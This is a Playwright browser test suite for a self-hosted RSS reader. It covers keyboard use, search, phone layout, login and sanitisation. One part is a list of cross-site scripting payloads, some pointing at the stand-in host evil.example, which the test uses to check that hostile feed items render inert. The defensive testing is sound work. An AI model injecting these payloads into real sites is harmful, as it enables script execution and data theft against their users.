import { existsSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { processFeed } from '../../src/app/process-feed.ts';
import type { Store } from '../../src/store/types.ts';
import { hashPassword } from '../../src/web/auth.ts';
import { CHROMIUM, launchChromium } from '../support/browser.ts';
import { rss } from '../support/feeds.ts';
import { makeItem, makeSource } from '../support/items.ts';
import { HOUR, NOW, type ServedHarness, servedHarness } from '../support/web.ts';

const skipReason = existsSync(CHROMIUM)
  ? ''
  : `browser tests skipped: ${CHROMIUM} is absent (apt-get install chromium)`;
const ARTIFACTS = join(import.meta.dirname, '../../test-artifacts');
const DESKTOP = { width: 1280, height: 800 };
const PHONE = { width: 375, height: 812 };

const XSS_VECTORS = [
  '<img src=x onerror="window.__xss=1;alert(1)">',
  '<script>window.__xss=2;alert(2)</script><p>after script</p>',
  '<a href="javascript:alert(3)">js link</a>',
  '<svg onload=alert(4)><circle r=5 /></svg>',
  '<iframe src="javascript:alert(5)"></iframe><iframe src="https://evil.example/frame"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">',
  '<style>@import url(https://evil.example/x.css);</style><p style="background:url(https://evil.example/p.png)">styled</p>',
  '<form action="https://evil.example/steal"><input name=p><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/l.css">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(6)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(7)>">',
  '<details open ontoggle=alert(8)>d</details>',
  '<a href="data:text/html,<script>alert(10)</script>">data link</a>',
];

async function seedRealistic(store: Store) {
  await store.syncSources(
    [
      makeSource('https://www.heise.example/rss/heise-atom.xml', {
        title: 'heise online',
        category: 'Technik',
        language: 'de',
      }),
      makeSource('https://rss.golem.example/rss.php', { title: 'Golem.de', category: 'Technik', language: 'de' }),
      makeSource('https://aws.example/blogs/aws/feed/', { title: 'AWS News Blog', category: 'Cloud', language: 'en' }),
      makeSource('https://kubernetes.example/feed.xml', {
        title: 'Kubernetes Blog',
        category: 'Cloud',
        language: 'en',
      }),
      makeSource('https://broken.example/feed', { title: 'Kaputter Feed', category: 'Cloud' }),
      makeSource('https://hostile.example/feed', { title: 'Hostile Feed', category: 'Sicherheit' }),
    ],
    NOW - 500 * HOUR,
  );
  const byTitle = new Map((await store.listSources()).map((s) => [s.title, s]));
  const id = (t: string) => byTitle.get(t)!.id;
  const titles: [string, string, string][] = [
    [
      'heise online',
      'Bundesdatenschutzbeauftragter kritisiert Datenschutzgrundverordnungsumsetzung',
      'Die Umsetzung der Datenschutz-Grundverordnung in Behörden bleibt lückenhaft, sagt der Bundesdatenschutzbeauftragte in seinem Tätigkeitsbericht.',
    ],
    [
      'AWS News Blog',
      'Amazon EKS now supports Kubernetes 1.34',
      'You can now create Amazon EKS clusters running Kubernetes version 1.34, with improved dynamic resource allocation and faster pod startup.',
    ],
    [
      'Golem.de',
      'Rechenzentren in Frankfurt: Stromverbrauch steigt weiter',
      'Die Rechenzentrumsbetreiber am Main brauchen mehr Energie als je zuvor. Die Stadt sucht nach Flächen und Netzanschlüssen.',
    ],
    [
      'Kubernetes Blog',
      'Kubernetes v1.34: Of Wind & Will',
      'The Kubernetes release team is proud to present v1.34, with 58 enhancements: 23 stable, 22 beta and 13 alpha.',
    ],
    [
      'heise online',
      'Sicherheitslücke in Routern: Hersteller liefert Firmware-Update',
      'Angreifer können ohne Anmeldung Befehle ausführen. Betroffene sollten umgehend aktualisieren.',
    ],
    [
      'AWS News Blog',
      'Introducing Amazon S3 Vectors',
      'Store and query vector embeddings directly in S3 with sub-second latency and up to 90% lower cost.',
    ],
    [
      'Golem.de',
      'Glasfaserausbau: Telekom und Wettbewerber streiten über Überbau',
      'Der doppelte Ausbau von Glasfasernetzen in Kommunen sorgt für Streit zwischen den Anbietern.',
    ],
    [
      'Kubernetes Blog',
      'Gateway API v1.3: Percentage-based request mirroring',
      'Gateway API v1.3 brings percentage-based request mirroring, CORS filters and retry budgets.',
    ],
  ];
  for (const [i, [source, title, summary]] of titles.entries()) {
    await store.upsertItems(
      id(source),
      [
        makeItem({
          uid: `real-${i}`,
          title,
          summary,
          author: i % 2 ? 'Jane Doe' : 'Max Mustermann',
          contentHtml: `<p>${summary}</p><p>Ein zweiter Absatz mit mehr Text, damit die Lesbarkeit geprüft werden kann: Donaudampfschifffahrtsgesellschaftskapitän.</p>`,
          categories: ['Cloud', 'News'],
          publishedAt: NOW - (i + 1) * 47 * 60_000,
          language: byTitle.get(source)!.language ?? 'en',
        }),
      ],
      NOW,
    );
  }
  for (let i = 0; i < 60; i++) {
    await store.upsertItems(
      id(i % 2 ? 'Golem.de' : 'AWS News Blog'),
      [makeItem({ uid: `old-${i}`, title: `Older story number ${i}`, publishedAt: NOW - (10 + i) * HOUR })],
      NOW,
    );
  }
  // The hostile feed goes through the real ingest stages (decode → parse → normalise/sanitise), as a fetched feed would.
  const hostileXml = rss(
    'Hostile',
    XSS_VECTORS.map((v, i) => ({
      id: `xss-${i}`,
      title: `XSS vector ${i} ${v}`,
      html: v,
      author: v,
      link: i === 0 ? 'javascript:alert(11)' : `https://hostile.example/${i}`,
      date: new Date(NOW - (200 + i) * HOUR).toISOString(),
    })),
  );
  const processed = await processFeed({
    body: Buffer.from(hostileXml),
    url: 'https://hostile.example/feed',
    identity: 'auto',
    now: NOW,
  });
  if (!processed.ok) throw new Error(`hostile feed did not parse: ${processed.message}`);
  await store.upsertItems(id('Hostile Feed'), processed.items, NOW);
  await store.finishFetch(
    id('Kaputter Feed'),
    {
      status: 'failing',
      errorReason: 'http_5xx',
      lastError: 'HTTP 503 Service Unavailable',
      consecutiveErrors: 4,
      lastFetchAt: NOW - HOUR,
      nextFetchAt: NOW + 2 * HOUR,
    },
    { startedAt: NOW - HOUR, durationMs: 120, outcome: 'error', httpStatus: 503, errorReason: 'http_5xx' },
  );
  await store.finishFetch(
    id('heise online'),
    { status: 'ok', lastFetchAt: NOW - 600_000, lastSuccessAt: NOW - 600_000, nextFetchAt: NOW + 1_200_000 },
    { startedAt: NOW - 600_000, durationMs: 80, outcome: 'ok', httpStatus: 200 },
  );
  await store.upsertTopic({
    slug: 'kubernetes',
    title: 'Kubernetes',
    description: 'Everything about Kubernetes and its ecosystem.',
    rulesHash: 'r1',
  });
  const k8s = (await store.search('kubernetes', 20)).map((hit, i) => ({
    itemId: hit.id,
    score: 3.2 - i * 0.4,
    included: true,
    evidence: { terms: { kubernetes: 2, eks: 1 }, source: hit.sourceTitle },
    publishedAt: hit.publishedAt,
  }));
  await store.saveTopicScores('kubernetes', k8s, NOW);
}

/** The harness served on loopback, seeded with realistic items. */
async function serveHarness(raw: Record<string, unknown>): Promise<ServedHarness> {
  const served = await servedHarness(raw);
  await seedRealistic(served.harness.store);
  return served;
}

/** Watches a page for anything an XSS would do: dialogs, CSP reports, requests to other hosts. */
function guard(page: Page) {
  const seen = {
    dialogs: [] as string[],
    foreign: [] as string[],
    csp: [] as string[],
    errors: [] as string[],
    media: [] as string[],
  };
  page.on('dialog', (d) => {
    seen.dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) seen.csp.push(m.text());
    // Failed loads are checked by URL below (the media proxy cannot reach the internet here); anything else counts.
    else if (m.type() === 'error' && !m.text().startsWith('Failed to load resource')) seen.errors.push(m.text());
  });
  page.on('response', (r) => {
    if (r.status() >= 400 && !new URL(r.url()).pathname.startsWith('/media'))
      seen.errors.push(`${r.status()} ${r.url()}`);
  });
  page.on('pageerror', (e) => seen.errors.push(String(e)));
  void page.route('**/*', (route) => {
    const url = new URL(route.request().url());
    if (url.hostname !== '127.0.0.1') {
      seen.foreign.push(url.href);
      return route.abort();
    }
    if (url.pathname === '/media') seen.media.push(url.searchParams.get('u') ?? '');
    return route.continue();
  });
  return seen;
}

describe.skipIf(Boolean(skipReason))(`reader in Chromium${skipReason ? ` (${skipReason})` : ''}`, () => {
  let browser: Browser;
  let served: ServedHarness;

  beforeAll(async () => {
    mkdirSync(ARTIFACTS, { recursive: true });
    browser = await launchChromium();
    served = await serveHarness({ topics: [{ slug: 'kubernetes', title: 'Kubernetes' }] });
  });

  afterAll(async () => {
    await browser?.close();
    await served?.close();
  });

  async function newPage(
    viewport = DESKTOP,
    options: { locale?: string; javaScriptEnabled?: boolean; colorScheme?: 'light' | 'dark' } = {},
  ) {
    const context: BrowserContext = await browser.newContext({
      viewport,
      locale: options.locale ?? 'en-GB',
      ...options,
    });
    const page = await context.newPage();
    page.setDefaultTimeout(5_000);
    return { context, page, seen: guard(page) };
  }

  it('browses the river with the keyboard: j/k select, m toggles read, s stars, ? shows help', async () => {
    const { context, page, seen } = await newPage();
    const { store } = served.harness;
    await page.goto(`${served.origin}/`);
    await page.screenshot({ path: join(ARTIFACTS, 'river-desktop.png') });
    const entries = page.locator('.river .entry');
    expect(await entries.count()).toBe(50);

    await page.keyboard.press('j');
    await page.keyboard.press('j');
    await page.keyboard.press('k');
    await expect
      .poll(() => page.locator('.entry.selected').getAttribute('data-id'))
      .toBe(await entries.first().getAttribute('data-id'));
    const firstId = Number(await entries.first().getAttribute('data-id'));

    await page.keyboard.press('m');
    await expect.poll(async () => (await store.getItem(firstId))!.read).toBe(true);
    await expect.poll(() => entries.first().getAttribute('class')).not.toMatch(/unread/);
    await page.keyboard.press('s');
    await expect.poll(async () => (await store.getItem(firstId))!.starred).toBe(true);
    await expect.poll(() => entries.first().locator('.btn-star').getAttribute('aria-pressed')).toBe('true');
    await page.keyboard.press('m');
    await expect.poll(async () => (await store.getItem(firstId))!.read).toBe(false);

    await page.keyboard.press('?');
    await expect.poll(() => page.locator('#help-dialog').isVisible()).toBe(true);
    await page.screenshot({ path: join(ARTIFACTS, 'help-desktop.png') });
    await page.keyboard.press('Escape');
    await expect.poll(() => page.locator('#help-dialog').isVisible()).toBe(false);

    // o opens the selected item; opening marks it read.
    await page.keyboard.press('j');
    await page.keyboard.press('o');
    await page.waitForURL(/\/items\/\d+(\?show=unread)?$/);
    await page.screenshot({ path: join(ARTIFACTS, 'item-desktop.png'), fullPage: true });
    const openedId = Number(new URL(page.url()).pathname.split('/').pop());
    expect((await store.getItem(openedId))!.read).toBe(true);

    // g then s goes to the sources page.
    await page.keyboard.press('g');
    await page.keyboard.press('s');
    await page.waitForURL(/\/sources$/);
    expect(await page.locator('.source-row').first().getAttribute('class')).toMatch(/status-failing/);
    await page.screenshot({ path: join(ARTIFACTS, 'sources-desktop.png'), fullPage: true });
    expect(seen).toMatchObject({ dialogs: [], foreign: [], csp: [], errors: [] });
    await context.close();
  });

  it('searches with / and highlights matches', async () => {
    const { context, page, seen } = await newPage(DESKTOP, { locale: 'de-DE' });
    await page.goto(`${served.origin}/`);
    await page.keyboard.press('/');
    await page.keyboard.type('Rechenzentrum');
    await page.keyboard.press('Enter');
    await page.waitForURL(/\/search\?q=Rechenzentrum/);
    expect(await page.locator('mark').first().textContent()).toBe('Rechenzentren');
    await page.screenshot({ path: join(ARTIFACTS, 'search-desktop-de.png') });
    expect(await page.locator('html').getAttribute('lang')).toBe('de');
    expect(seen).toMatchObject({ dialogs: [], foreign: [], csp: [], errors: [] });
    await context.close();
  });

  it('shows a topic with scores and its subscribe box', async () => {
    const { context, page, seen } = await newPage();
    await page.goto(`${served.origin}/topics/kubernetes`);
    expect(await page.locator('.feed-url').first().textContent()).toBe(`${served.origin}/feeds/kubernetes.rss`);
    expect(await page.locator('.score').first().textContent()).toMatch(/^score \d\.\d\d$/);
    await page.screenshot({ path: join(ARTIFACTS, 'topic-desktop.png'), fullPage: true });
    expect(seen).toMatchObject({ dialogs: [], foreign: [], csp: [], errors: [] });
    await context.close();
  });

  it('works without JavaScript: read and mark-all are plain form posts with a redirect back', async () => {
    const { store } = served.harness;
    const { context, page } = await newPage(DESKTOP, { javaScriptEnabled: false });
    await page.goto(`${served.origin}/categories/Cloud`);
    const first = page.locator('.river .entry').first();
    const id = Number(await first.getAttribute('data-id'));
    await first.getByRole('button', { name: 'Mark as read' }).click();
    await page.waitForURL(`${served.origin}/categories/Cloud`);
    expect((await store.getItem(id))!.read).toBe(true);
    await page.getByRole('button', { name: 'Mark all shown as read' }).click();
    await page.waitForURL(`${served.origin}/categories/Cloud`);
    expect(await page.locator('.empty').isVisible()).toBe(true);
    expect((await store.unreadCounts()).byCategory.Cloud ?? 0).toBe(0);
    await context.close();
  });

  it('fits a 375 px phone: no horizontal scroll, sidebar becomes a menu', async () => {
    for (const colorScheme of ['light', 'dark'] as const) {
      const { context, page, seen } = await newPage(PHONE, { colorScheme, locale: 'de-DE' });
      await page.goto(`${served.origin}/all`);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width);
      await expect.poll(() => page.locator('#sidebar').isVisible()).toBe(false);
      await page.screenshot({ path: join(ARTIFACTS, `river-phone-${colorScheme}.png`) });
      await page.locator('[data-menu-toggle]').click();
      await expect.poll(() => page.locator('#sidebar').isVisible()).toBe(true);
      await page.screenshot({ path: join(ARTIFACTS, `menu-phone-${colorScheme}.png`) });
      await page.keyboard.press('Escape');
      await expect.poll(() => page.locator('#sidebar').isVisible()).toBe(false);
      await page.goto(`${served.origin}/sources`);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width);
      await page.screenshot({ path: join(ARTIFACTS, `sources-phone-${colorScheme}.png`), fullPage: true });
      const longest = (await served.harness.store.search('Bundesdatenschutzbeauftragter', 1))[0]!;
      await page.goto(`${served.origin}/items/${longest.id}`);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width);
      await page.screenshot({ path: join(ARTIFACTS, `item-phone-${colorScheme}.png`), fullPage: true });
      expect(seen).toMatchObject({ dialogs: [], foreign: [], csp: [], errors: [] });
      await context.close();
    }
  });

  it('renders hostile items inert: no dialog, no script, no request to another host', async () => {
    const { store } = served.harness;
    const hostile = (await store.listSources()).find((s) => s.title === 'Hostile Feed')!;
    const items = (await store.listItems({ sourceId: hostile.id }, 50)).items;
    expect(items.length).toBe(XSS_VECTORS.length);
    const { context, page, seen } = await newPage();
    const visit = async (path: string) => {
      await page.goto(`${served.origin}${path}`);
      await page.waitForLoadState('load');
      expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
    };
    await visit(`/sources/${hostile.id}?show=all`);
    await page.screenshot({ path: join(ARTIFACTS, 'xss-river.png'), fullPage: true });
    for (const item of items) await visit(`/items/${item.id}`);
    await visit('/search?q=vector');
    await visit(`/search?q=${encodeURIComponent('<script>alert(1)</script>')}`);
    // The javascript: link of the first vector must not be a link at all.
    await visit(`/items/${items.find((i) => i.guid === 'xss-0')!.id}`);
    expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
    expect(seen.dialogs).toEqual([]);
    expect(seen.csp).toEqual([]);
    expect(seen.foreign).toEqual([]);
    // The hostile images were asked for, but through the reader's media proxy, never from their hosts.
    expect(seen.media.length).toBeGreaterThan(0);
    expect(seen.errors).toEqual([]);
    await context.close();
  });

  describe('with a password', () => {
    let locked: ServedHarness;
    beforeAll(async () => {
      locked = await serveHarness({ server: { passwordHash: await hashPassword('s3cret') } });
    });
    afterAll(async () => {
      await locked?.close();
    });

    it('logs in through the form and can then change state', async () => {
      const { context, page, seen } = await newPage();
      await page.goto(`${locked.origin}/`);
      expect(await page.locator('button.js-read').count()).toBe(0);
      await page.getByRole('link', { name: 'Log in' }).click();
      await page.getByLabel('Password').fill('wrong');
      await page.getByRole('button', { name: 'Log in' }).click();
      expect(await page.locator('.notice-error').textContent()).toBe('Wrong password.');
      await page.screenshot({ path: join(ARTIFACTS, 'login-failed.png') });
      await page.getByLabel('Password').fill('s3cret');
      await page.getByRole('button', { name: 'Log in' }).click();
      await page.waitForURL(`${locked.origin}/`);
      expect(await page.locator('button.js-read').count()).toBeGreaterThan(0);
      await page.keyboard.press('j');
      await page.keyboard.press('s');
      const id = Number(await page.locator('.entry.selected').getAttribute('data-id'));
      await expect.poll(async () => (await locked.harness.store.getItem(id))!.starred).toBe(true);
      const cookies = await context.cookies();
      expect(cookies.find((c) => c.name === 'rs_session')).toMatchObject({ httpOnly: true, sameSite: 'Lax' });
      expect(seen.dialogs).toEqual([]);
      expect(seen.foreign).toEqual([]);
      await context.close();
    });
  });
});
